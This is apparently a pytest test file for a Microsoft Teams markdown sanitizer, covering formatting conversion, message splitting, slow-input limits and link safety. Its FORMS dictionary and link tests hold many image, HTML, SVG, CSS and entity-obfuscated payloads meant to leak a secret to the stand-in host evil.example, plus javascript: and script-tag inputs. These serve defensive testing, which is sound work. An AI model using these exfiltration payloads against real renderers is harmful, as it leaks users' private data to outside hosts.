from __future__ import annotations

import re
import time

import pytest
from markdown_it import MarkdownIt

from adapters.teams.markdown.pieces import MAX_PARSED, MAX_PIECE_UNITS
from adapters.teams.markdown.pieces import teams_markdown as written
from bot.links import LinkRules

READER = MarkdownIt("gfm-like", {"html": True, "linkify": False})

NAMES = ("a", "b", "c", "bank", "evil", "good", "xn--bnk-5cd", "xn--bnk-6cd")
LINKS = LinkRules(hosts=frozenset({*(f"{name}.example" for name in NAMES), "docs.python.org"}))


def teams_markdown(text: str) -> tuple[str, ...]:
    """As for a person who named the hosts of all links."""
    return written(text, links=LINKS)


def shown(text: str) -> str:
    """What one message says."""
    [piece] = teams_markdown(text)
    return piece


@pytest.mark.parametrize(
    "text",
    [
        "plain words",
        "two  \nlines",
        "**bold** and *italic* and ~~struck~~ and `code`",
        "- a\n- b\n  - c",
        "3. a\n4. b",
        "> quoted  \n> twice",
        "```python\nx = [1, 2]\n\nprint(x)\n```",
        "x < 3 and 2 * 3 = 6, snake_case, AT&T, 100%, #5, a-b, C:\\temp",
        "the list [1, 2, 3] and f(x) = [x]",
        "- loose\n\n- list",
        "1. code in a list\n   ```\n   x = 1\n   ```\n2. end",
        "(it costs $5, not $6)",
    ],
)
def test_what_teams_knows_is_left_as_it_is(text: str) -> None:
    assert shown(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("# Title", "**Title**"),
        ("###### Small", "**Small**"),
        ("Title\n=====", "**Title**"),
        ("## A **bold** `x` title", "**A bold `x` title**"),
        ("a\n\n---\n\nb", "a\n\nb"),
        ("    indented = code", "```\nindented = code\n```"),
        ("~~~js\nlet x\n~~~", "```js\nlet x\n```"),
        ("````\n```\n````", "````\n```\n````"),
        ("```py linenos=true\nx\n```", "```py\nx\n```"),
        ("```\nnever closed", "```\nnever closed\n```"),
        ("~~~ words behind a fence ", "```\nwords behind a fence\n```"),
        ("```py and words\nx\n```", "```py\nand words\nx\n```"),
        ("`` a`b ``", "``a`b``"),
        ("__bold__ _italic_", "**bold** *italic*"),
        ("***both***", "***both***"),
        ("one  \ntwo", "one  \ntwo"),
        ("one<br>two<br/>three", "one  \ntwo  \nthree"),
        ("* a\n+ b", "- a\n\n- b"),
        ("1) a", "1. a"),
        ("&copy; &amp; &lt;b&gt;", "© & &lt;b>"),
    ],
)
def test_markup_that_teams_lacks_becomes_markup_it_has(text: str, expected: str) -> None:
    assert shown(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<b>bold</b>", "&lt;b>bold&lt;/b>"),
        ("<at>CEO</at> look", "&lt;at>CEO&lt;/at> look"),
        ("&lt;at&gt;CEO&lt;/at&gt;", "&lt;at>CEO&lt;/at>"),
        ("&amp;lt;at&amp;gt;", "&amp;lt;at&amp;gt;"),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("<!-- hidden -->", "&lt;!-- hidden -->"),
        ("a\\*b\\*", "a\\*b\\*"),
        ("\\# no title", "\\# no title"),
        ("\\- no list", "\\- no list"),
        ("1\\. no list", "1\\. no list"),
        ("\\> no quote", "\\> no quote"),
        ("\\`no code\\`", "\\`no code\\`"),
        ("a\n\\---", "a  \n\\---"),
        ("\\[a\\](b)", "[a\\](b)"),
        ("\\!\\[a\\](b)", "\\![a\\](b)"),
        ("\\[a\\]: b", "[a\\]: b"),
        ("a\\\\**b**", "a\\\\**b**"),
    ],
)
def test_what_is_not_markup_stays_words(text: str, expected: str) -> None:
    assert shown(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Step 1: x = 2\nStep 2: y = 3\nResult: 5", "Step 1: x = 2  \nStep 2: y = 3  \nResult: 5"),
        ("one<br>two", "one  \ntwo"),
        ("- Ada\n  London\n- Bob", "- Ada  \n  London\n- Bob"),
        ("> roses\n> violets", "> roses  \n> violets"),
        ("1. a\n   > b\n   > c", "1. a\n   > b  \n   > c"),
        ("a\\\nb", "a  \nb"),
        ("a\n\nb", "a\n\nb"),
        ("**a\nb**", "**a  \nb**"),
    ],
)
def test_single_line_ends_leave_as_hard_breaks(text: str, expected: str) -> None:
    """F6: Teams shows lines that end in a bare line feed as one."""
    assert shown(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[Answer]: 42", "[Answer\\]: 42"),
        (
            "[INFO]: started\n[ERROR]: failed\n[WARN]: disk full now",
            "[INFO\\]: started  \n[ERROR\\]: failed  \n[WARN\\]: disk full now",
        ),
        ("Done.\n\n[Result]: 42\n\n[Units]: kg", "Done.\n\n[Result\\]: 42\n\n[Units\\]: kg"),
        ("[1]: 0.5\n[2]: 0.25", "[1\\]: 0.5  \n[2\\]: 0.25"),
        ("[x]: 3\n[y]: 4\n\n[x] + [y]", "[x\\]: 3  \n[y\\]: 4\n\n[x] + [y]"),
        ('[Note]: important "really"', '[Note\\]: important "really"'),
        ("said so[^1]\n\n[^1]: Smith2020", "said so[^1]\n\n[^1\\]: Smith2020"),
        ("> [Answer]: 42", "> [Answer\\]: 42"),
        ("- [Answer]: 42", "- [Answer\\]: 42"),
        ("[a]: 1\n[r]: https://a.example/\n\n[x][r]", "[a\\]: 1\n\n[x](https://a.example/) (a.example)"),
        ("[r]: https://a.example/\n[r]: 5\n\n[x][r]", "[r\\]: 5\n\n[x](https://a.example/) (a.example)"),
    ],
)
def test_what_looks_like_a_definition_that_no_link_needs_is_said(text: str, expected: str) -> None:
    """F3."""
    assert shown(text) == expected


@pytest.mark.parametrize("text", [f"{'>' * 200} 42", *(f"{mark * 30}42" for mark in ("> ", "- ", "1. ", "* > "))])
def test_what_is_nested_too_deep_for_the_parser_is_said_as_plain_words(text: str) -> None:
    """F3."""
    assert "42" in shown(text)
    assert "42" in shown("\n".join(f"{'  ' * depth}- w{depth}" for depth in range(60)).replace("w59", "42"))


@pytest.mark.parametrize(
    "text",
    ["```\n```", "```python", "|  |\n|---|\n|  |", "- \n- ", "1.\n2.", "\u3164\u115f", "\u2800", "&nbsp;", "---"],
)
def test_a_text_that_shows_nothing_is_no_message(text: str) -> None:
    """F3: it is told that there is no answer."""
    assert teams_markdown(text) == ()


def test_code_may_hold_anything() -> None:
    text = "```html\n<at>x</at> ![p](http://evil.example/?d=1) **not bold**\n```"

    assert shown(text) == text


def test_where_tables_are_shown_a_table_stays_one_with_its_markup() -> None:
    table = "|n|name|\n|--:|---|\n| 1 | **one** `a\\|b` |\n| 2 | <b> |"
    [shown] = written(f"See:\n\n{table}", links=LINKS, keeps_tables=True)
    assert shown == "See:\n\n| n | name |\n| - | - |\n| 1 | **one** `a\\|b` |\n| 2 | &lt;b> |"


def test_a_table_that_is_longer_than_a_message_is_cut_as_columns_are() -> None:
    table = "| n | name |\n|--:|---|\n" + "".join(f"| {n} | row {n} |\n" for n in range(100))
    pieces = written(table, 400, keeps_tables=True)
    assert len(pieces) > 1
    assert all(piece.startswith("```") for piece in pieces)


def test_a_table_becomes_columns_aligned_as_it_says() -> None:
    table = "| n | square | name |\n|--:|:-:|---|\n| 1 | 1 | one |\n| 12 | 144 | **twelve** `x` |"

    assert shown(table) == "\n".join(
        [
            "```",
            " n  square  name",
            "--  ------  --------",
            " 1    1     one",
            "12   144    twelve x",
            "```",
        ]
    )


def test_wide_letters_and_accents_keep_the_columns_straight() -> None:
    assert shown("|a|b|\n|-|-|\n|日本|x|\n|e\u0301e\u0301|y|").splitlines()[1:-1] == [
        "a     b",
        "----  -",
        "日本  x",
        "e\u0301e\u0301    y",
    ]


def test_a_table_too_wide_for_a_screen_becomes_a_list() -> None:
    wide = "word " * 20

    assert shown(f"| name | story |\n|---|---|\n| Ada | {wide}|\n| Bob | {wide}|") == (
        f"```\nname: Ada\nstory: {wide.strip()}\n\nname: Bob\nstory: {wide.strip()}\n```"
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[docs](https://docs.python.org/3/)", "[docs](https://docs.python.org/3/) (docs.python.org)"),
        ("[docs](https://docs.python.org/3/#intro)", "[docs](https://docs.python.org/3/) (docs.python.org)"),
        ("[docs.python.org](https://docs.python.org)", "[docs.python.org](https://docs.python.org)"),
        ("<https://a.example/b>", "[https://a.example/b](https://a.example/b)"),
        ("see https://a.example/b_c.", "see [https://a.example/b_c](https://a.example/b_c)."),
        ("(https://a.example/b)", "([https://a.example/b](https://a.example/b))"),
        ("www.a.example/b", "[www.a.example/b](http://www.a.example/b)"),
        ("https://a.example/b_(c)", r"[https://a.example/b\_(c)](https://a.example/b_%28c%29)"),
        (
            "[https://bank.example](https://evil.example/)",
            "[https://bank.example](https://evil.example/) (evil.example)",
        ),
        ("[a](http://xn--bnk-5cd.example/)", "[a](http://xn--bnk-5cd.example/) (xn--bnk-5cd.example)"),
        ("[a](http://bаnk.example/)", "[a](http://xn--bnk-6cd.example/) (xn--bnk-6cd.example)"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](data:text/html,hi)", "x"),
        ("[plot](sandbox:/mnt/data/plot.png)", "plot"),
        ("[x](file:///etc/passwd)", "x"),
        ("[mail](mailto:a@b.example)", "mail"),
        ("[x](relative/page)", "x"),
        ("[x](//evil.example/p)", "x (evil.example)"),
        ("[x](https://user@evil.example/)", "x (evil.example)"),
        ("[x](https://evil.example\\@good.example/)", "x (good.example)"),
        ("**[x](https://a.example/)**", "**[x](https://a.example/) (a.example)**"),
        ("[a *b* `c`](https://a.example/)", "[a b c](https://a.example/) (a.example)"),
        ("[](https://a.example/)", "[a.example](https://a.example/) (a.example)"),
        ("[a\nb](https://a.example/)", "[a b](https://a.example/) (a.example)"),
        ("[[1]](https://a.example/)", "[(1)](https://a.example/) (a.example)"),
    ],
)
def test_links_show_where_they_lead_and_lead_nowhere_but_the_web(text: str, expected: str) -> None:
    assert shown(text) == expected


CLICKABLE = re.compile(r"(://|www\.|\.example\S*\?)\S*SECRET", re.IGNORECASE)  # what a client might make a link of
SECRET = "https://evil.example/p?q=SECRET"
FORMS = {
    "inline": f"![x]({SECRET})",
    "inline with title": f"![x]({SECRET} 'title')",
    "in angles": f"![x](<{SECRET}>)",
    "reference": f"![x][r]\n\n[r]: {SECRET}",
    "collapsed reference": f"![r][]\n\n[r]: {SECRET}",
    "shortcut reference": f"![r]\n\n[r]: {SECRET}",
    "reference with title": f'![r]\n\n[r]: {SECRET}\n  "title"',
    "HTML": f'<img src="{SECRET}">',
    "HTML without quotes": f"<img src={SECRET}>",
    "HTML block": f'<div>\n<img src="{SECRET}">\n</div>',
    "HTML broken over lines": f'<img\nsrc="{SECRET}"\n>',
    "SVG": f'<svg><image href="{SECRET}"/></svg>',
    "style": f'<p style="background:url({SECRET})">',
    "nested in a link": f"[![x]({SECRET})](https://a.example/)",
    "nested in an image": f"![a ![b]({SECRET})]({SECRET})",
    "image with a link in its words": f"![a [b]({SECRET})]({SECRET})",
    "link": f"[x]({SECRET})",
    "reference link": f"[x][r]\n\n[r]: {SECRET}",
    "autolink": f"<{SECRET}>",
    "bare": SECRET,
    "bare in brackets": f"({SECRET})",
    "bare without scheme": "www.evil.example/p?q=SECRET",
    "bare without www": "evil.example/p?q=SECRET",
    "entities": f"!&#91;x&#93;&#40;{SECRET}&#41;",
    "entities in the address": "![x](https&colon;//evil.example/p?q=SECRET)",
    "escaped bang": f"\\![x]({SECRET})",
    "escaped brackets": f"!\\[x\\]({SECRET})",
    "zero width": f"!\u200b[x]({SECRET})",
    "zero width in the scheme": "ht\u200btps://evil.example/p?q=SECRET",
    "in a table": f"| a |\n|---|\n| ![x]({SECRET}) {SECRET} [y]({SECRET}) |",
    "in a quote": f"> ![x]({SECRET})",
    "in a list": f"- ![x]({SECRET})\n  - [x]({SECRET})",
    "in a heading": f"# ![x]({SECRET}) [y]({SECRET})",
    "in bold": f"**![x]({SECRET})**",
    "in a formula": f"\\(x\\)\\[![x]({SECRET})\\]$$[x]({SECRET})$$",
    "put together by a removed image": "https://ev![x](y)il.example/p?q=SECRET",
    "put together by a removed link": "https://evil.exam[ple/p?q=SECRET](javascript:x)",
    "tag put together by an address that cannot be clicked": "\\<https://img/| src=//evil/SECRET>",
    "the same by an entity": "&lt;https://img/| src=//evil/SECRET>",
    "bang before a link": "!\\[x\\]\\(y\\)![](z)[x](https://evil.example/p?q=SECRET)",
    "data": "![x](data:image/svg+xml;base64,SECRET)",
    "code span cut in two": "`" + f"![x]({SECRET}) " * 1000 + "`",
    "behind the end of parsing": "word " * 20_000 + f"![x]({SECRET}) [y]({SECRET}) {SECRET} <img src={SECRET}>",
    "user name": "[x](https://SECRET@evil.example/)",
    "fragment": "[x](https://evil.example/p#SECRET)",
    "scheme-relative": "![x](//evil.example/p?q=SECRET)",
    "upper case": "![x](HTTPS://EVIL.EXAMPLE/P?Q=SECRET) HTTPS://EVIL.EXAMPLE/P?Q=SECRET",
    "ftp": "ftp://evil.example/SECRET ![x](ftp://evil.example/SECRET)",
    "long path": "[x](https://evil.example/" + "SECRET" * 60 + ")",
    "backslashes": "![x](https:\\\\evil.example\\p?q=SECRET) [x](https:\\\\evil.example\\p?q=SECRET)",
}


@pytest.mark.parametrize("form", FORMS)
def test_no_form_of_image_or_link_carries_a_secret_to_a_stranger(form: str) -> None:
    pieces = teams_markdown(f"before {FORMS[form]} after") + teams_markdown(FORMS[form]) + written(FORMS[form])

    for token in [inner for piece in pieces for block in READER.parse(piece) for inner in (block.children or [block])]:
        assert token.type not in ("image", "html_block", "html_inline")
        assert "SECRET" not in str(token.attrs)
        assert token.type != "text" or not CLICKABLE.search(token.content)


@pytest.mark.parametrize(
    "fence", [f"```\n{SECRET}\n```", f"````\n```\n![x]({SECRET})\n````", f"~~~\n```\n![x]({SECRET})\n~~~"]
)
def test_a_fence_keeps_its_content_in(fence: str) -> None:
    tokens = READER.parse(shown(fence))

    assert [token.type for token in tokens] == ["fence"]


def test_words_before_a_link_cannot_make_a_picture_of_it() -> None:
    text = "Look&#33;[a](https://a.example/p) https://b.example/!https://c.example/"

    assert "image" not in {inner.type for token in READER.parse(shown(text)) for inner in token.children or ()}
    assert "Look\\![a](https://a.example/p)" in shown(text)


@pytest.mark.parametrize(
    "text",
    [
        "Hello!",
        "**Done!**",
        "Yes! *Of course!*\n\n- one!\n- two!",
        "Ah! `code`",
        "Look! [a.example](https://a.example)",
    ],
)
def test_an_exclamation_mark_that_no_link_follows_has_no_backslash(text: str) -> None:
    assert "\\" not in shown(text)


@pytest.mark.parametrize(
    "text",
    [
        "&#92;&#33;[a](https://a.example/p)",
        "**Look&#33;[a](https://a.example/p)**",
        "*a&#33;***[a](https://a.example/p)**",
        "&#33;**[a](https://a.example/p)**",
    ],
)
def test_wherever_a_link_follows_an_exclamation_mark_it_is_no_picture(text: str) -> None:
    assert "image" not in {inner.type for token in READER.parse(shown(text)) for inner in token.children or ()}


def test_hidden_and_reordering_letters_are_dropped_and_joined_ones_kept() -> None:
    assert shown("a\u202eb\u2066c\ufeffd\u200be\x07") == "abcde"
    assert shown("👩\u200d👩\u200d👧 می\u200cخواهم 🫨") == "👩\u200d👩\u200d👧 می\u200cخواهم 🫨"


def test_a_long_text_is_cut_between_blocks() -> None:
    paragraphs = [f"paragraph {number} " + "word " * 100 for number in range(90)]

    pieces = teams_markdown("\n\n".join(paragraphs))

    assert len(pieces) > 2
    assert "\n\n".join(pieces).split("\n\n") == [paragraph.strip() for paragraph in paragraphs]


def test_a_long_fence_is_closed_and_opened_again() -> None:
    lines = [f"x{number} = {number}" for number in range(3500)]

    pieces = teams_markdown("```python\n" + "\n".join(lines) + "\n```")

    assert len(pieces) > 2
    assert all(piece.startswith("```python\n") and piece.endswith("\n```") for piece in pieces)
    assert "\n".join(piece.removeprefix("```python\n").removesuffix("\n```") for piece in pieces) == "\n".join(lines)


def test_a_long_list_is_cut_between_items() -> None:
    items = [f"- item {number} " + "word " * 50 for number in range(180)]

    pieces = teams_markdown("\n".join(items))

    assert len(pieces) > 2
    assert [line for piece in pieces for line in piece.split("\n") if line] == [item.strip() for item in items]


def test_a_long_numbered_list_goes_on_counting() -> None:
    pieces = teams_markdown("\n".join(f"{number}. " + "word " * 50 for number in range(1, 180)))

    starts = [int(line.split(".")[0]) for piece in pieces for line in piece.split("\n") if line]
    assert starts == list(range(1, 180))


@pytest.mark.parametrize("letters", ["👩\u200d👩\u200d👧", "🇩🇪", "e\u0301", "👍🏽", "각", "𝑥"])
def test_a_long_word_is_never_cut_within_a_letter(letters: str) -> None:
    pieces = teams_markdown(letters * 30_000)

    assert len(pieces) > 1
    assert all(
        len(piece) % len(letters) == 0 and piece == letters * (len(piece) // len(letters)) for piece in flat(pieces)
    )


def flat(pieces: tuple[str, ...]) -> list[str]:
    return [part for piece in pieces for part in piece.split("\n\n")]


HEAVY = {
    "[": "[",
    "![": "![",
    "[a](": "[a](",
    "**a ": "**a ",
    "*a_ ": "*a_ ",
    "<a ": "<a ",
    ">": ">",
    "- ": "- ",
    "[]": "[]",
    "\\(": "\\(",
    "$x": "$x",
    "\\[+": "\\[+",
    "$=": "$" + "=" * 999,
    "ab.": "ab.",
    "ab.cd/?": "ab.cd/?",
    "http://a": "http://a",
    "www.": "www.",
    ")": "http://x/" + ")" * 999,
    "&#x": "&#x",
    "|a": "|a",
    "] ": "] ",
    "spaces": " " * 99 + "x",
    "accents": "\u0301",
    "lines": "=\n",
    "rows": "|a|b|\n|-|-|\n",
}


@pytest.mark.parametrize("name", HEAVY)
def test_hostile_text_takes_no_more_than_seconds(name: str) -> None:
    text = HEAVY[name] * (300_000 // len(HEAVY[name]))
    before = time.process_time()

    pieces = teams_markdown(text)

    assert time.process_time() - before < 4.0
    assert all(len(piece) <= MAX_PIECE_UNITS for piece in pieces)


def test_what_lies_beyond_the_parsed_part_is_still_said() -> None:
    words = [f"w{number}" for number in range(30_000)]

    pieces = teams_markdown(" ".join(words))

    assert len(" ".join(words)) > MAX_PARSED
    assert " ".join(pieces).split() == words
